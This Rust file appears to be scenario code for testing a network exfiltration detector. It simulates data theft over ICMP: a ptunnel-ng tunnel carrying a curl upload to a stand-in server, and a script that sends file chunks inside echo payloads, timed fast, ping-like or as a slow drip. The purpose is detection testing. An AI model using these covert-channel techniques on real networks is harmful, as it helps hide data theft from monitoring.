//! Theft through echo requests: a whole tunnel, and plain payloads.

use std::fs;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use detector_tests::{poll_until, wait_for_tcp_listener};

use crate::random::Random;
use crate::scene::{Outcome, SINK_PORT, Scene, Target, ensure_arrived};

const START: Duration = Duration::from_secs(10);
/// ptunnel-ng answers from the address that the machine sends from by itself.
const TUNNEL_SERVER: &str = "203.0.113.10";
const TUNNEL_PORT: u16 = 8000;

/// An upload over HTTP over ptunnel-ng.
pub(crate) fn ptunnel(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let size = random.size(30_000, 900_000);
    let sink = SINK_PORT.to_string();
    // The tunnel's own program answers the requests, not the kernel.
    scene.internet().sysctl("net.ipv4.icmp_echo_ignore_all", "1")?;
    let _server = scene.internet().spawn("ptunnel-ng", ["-r127.0.0.1", &format!("-R{sink}")])?;
    let port = format!("-l{TUNNEL_PORT}");
    let _client = scene.client().spawn(
        "ptunnel-ng",
        [&format!("-p{TUNNEL_SERVER}"), &port, "-r127.0.0.1", &format!("-R{sink}")],
    )?;
    wait_for_tcp_listener(scene.client(), TUNNEL_PORT, START)?;
    let body = format!("@{}", scene.document("stolen", &random.document(size))?);
    let url = format!("http://127.0.0.1:{TUNNEL_PORT}/up/tunnel");
    scene.run(
        "curl",
        &["--silent", "--show-error", "--output", "/dev/null", "--data-binary", &body, &url],
    )?;
    ensure_arrived(size, scene.sunk_bytes("/up/tunnel")?)?;
    let target = Target {
        host: TUNNEL_SERVER.to_owned(),
        address: TUNNEL_SERVER.parse().context("no address")?,
    };
    Ok(Outcome::stolen(
        scene.culprit(&target, "icmp", None)?,
        size,
        format!("{size} bytes through {TUNNEL_SERVER}"),
    ))
}

/// Large payloads in quick succession.
pub(crate) fn fast_echo(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let chunk = random.between(200, 1_400) as usize;
    let count = random.between(60, 900) as usize;
    carry(scene, random, chunk, count, 8.0 / count as f64)
}

/// Payloads of an ordinary ping's size, seconds apart.
pub(crate) fn slow_echo(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let chunk = random.between(28, 120) as usize;
    let count = random.between(12, 50) as usize;
    carry(scene, random, chunk, count, 11.0 / count as f64)
}

/// A payload of a few bytes every few seconds, for so long.
pub(super) fn drip(scene: &Scene<'_>, random: &mut Random, seconds: f64) -> Result<Outcome> {
    let pause_secs = random.log_uniform(0.7, 6.0);
    let chunk = random.between(2, 48) as usize;
    carry(scene, random, chunk, (seconds / pause_secs) as usize, pause_secs)
}

fn carry(
    scene: &Scene<'_>,
    random: &mut Random,
    chunk: usize,
    count: usize,
    pause_secs: f64,
) -> Result<Outcome> {
    let target = scene.target(random)?;
    let family = if target.address.is_ipv6() { "6" } else { "4" };
    let got = scene.inbox("got").display().to_string();
    let receiver = scene.start_script(
        scene.internet(),
        "icmp.py",
        &["receive".to_owned(), family.to_owned(), got.clone()],
    )?;
    receiver.wait_for_line("ready", START)?;
    let document = random.document(chunk * count);
    let file = scene.document("stolen", &document)?;
    let arguments = [
        "send",
        &target.address.to_string(),
        &file,
        &chunk.to_string(),
        &pause_secs.to_string(),
        "1",
    ]
    .map(str::to_owned);
    scene.run_script("icmp.py", &arguments)?;
    // There is no repetition in this protocol: what the line loses is lost.
    let arrived = || fs::read(&got).unwrap_or_default();
    poll_until(Duration::from_secs(1), || (arrived() == document).then_some(())).ok();
    let missing = document
        .chunks(chunk)
        .zip(arrived().chunks(chunk))
        .filter(|(sent, found)| sent != found)
        .count();
    ensure!(
        missing * 20 <= count && arrived().len() + chunk * 3 >= document.len(),
        "{missing} of {count} payloads did not arrive"
    );
    let notes = format!(
        "{count} payloads of {chunk} bytes, {:.0} ms apart, to {}",
        pause_secs * 1e3,
        target.host
    );
    Ok(Outcome::stolen(
        scene.culprit(&target, "icmp", None)?,
        document.len() - missing * chunk,
        notes,
    ))
}
